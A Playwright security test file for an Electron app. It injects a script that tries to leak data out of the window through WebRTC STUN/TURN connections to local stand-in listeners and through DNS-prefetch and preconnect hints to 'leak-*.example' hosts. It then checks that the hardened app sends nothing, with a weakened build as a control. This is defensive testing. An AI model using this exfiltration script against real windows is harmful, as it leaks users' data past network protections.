import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { existsSync, readFileSync } from 'node:fs'
import { createServer } from 'node:net'
import { join } from 'node:path'
import { expect, type Page } from '@playwright/test'
import { test } from '../../e2e/support/app-test.ts'
import { plantedApp } from '../../security/support/planted.ts'
import { tally } from '../../security/support/tally.ts'

/** Listeners of an attacker on this computer: a STUN server over UDP, and a TURN server over TCP. */
async function listen() {
  let [packets, connections] = [0, 0]
  const udp = createSocket('udp4').on('message', () => {
    packets += 1
  })
  udp.bind(0, '127.0.0.1')
  const tcp = createServer((socket) => {
    connections += 1
    socket.on('error', () => undefined)
  }).listen(0, '127.0.0.1')
  await Promise.all([once(udp, 'listening'), once(tcp, 'listening')])
  const address = tcp.address()
  const tcpPort = typeof address === 'object' && address !== null ? address.port : 0
  return {
    ports: [udp.address().port, tcpPort] as const,
    received: () => packets + connections,
    close: () => {
      udp.close()
      tcp.close()
    },
  }
}

/** What a script in the page can do to send a name out of the window: WebRTC, and hints that resolve names. */
const attack = ([udp, tcp]: readonly [number, number]) => `(async () => {
  const peer = new RTCPeerConnection({ iceServers: [
    { urls: 'stun:127.0.0.1:${udp}' },
    { urls: 'turn:127.0.0.1:${tcp}?transport=tcp', username: 'a-name', credential: 'x' },
    { urls: 'turn:127.0.0.1:${udp}', username: 'a-name', credential: 'x' },
  ] })
  peer.createDataChannel('x')
  await peer.setLocalDescription(await peer.createOffer())
  for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'modulepreload']) {
    const link = document.createElement('link')
    link.rel = rel
    link.href = 'https://leak-' + rel + '.example/'
    document.head.append(link)
  }
  await new Promise((done) => setTimeout(done, 4000))
  peer.close()
})()`

async function sentBy(page: Page): Promise<number> {
  const listeners = await listen()
  try {
    await page.evaluate(attack(listeners.ports))
    return listeners.received()
  } finally {
    listeners.close()
  }
}

const namesIn = (log: string) =>
  existsSync(log) ? (readFileSync(log, 'utf8').match(/leak-[a-z-]+\.example/g) ?? []) : []

// Chromium without a window does not resolve hinted names at all, so that part is proven in real Electron only.
test('a script in the window sends no packet over WebRTC and resolves no name', async ({
  launch,
  folder,
}) => {
  const log = join(folder, 'net-log.json')
  const app = await launch({ args: ['--demo', `--log-net-log=${log}`], env: { FOYER_STAND_IN_NET_LOG: log } })
  const sent = await sentBy(app.page)
  await app.close()
  expect(existsSync(log)).toBe(true)
  const names = namesIn(log)
  tally('the window’s network: packets and names sent', 6, sent + names.length)
  expect({ sent, names }).toEqual({ sent: 0, names: [] })
})

test('without these rules it sends packets (control)', async ({ launch }) => {
  const appDir = plantedApp(
    {
      find: 'setWebRTCIPHandlingPolicy("disable_non_proxied_udp")',
      replace: 'setWebRTCIPHandlingPolicy("default")',
    },
    { find: 'await session.setProxy(', replace: 'void (' },
  )
  const app = await launch({ args: ['--demo'], appDir })
  const sent = await sentBy(app.page)
  tally('the window’s network: control (missed)', 1, sent > 0 ? 0 : 1)
  expect(sent).toBeGreaterThan(0)
})
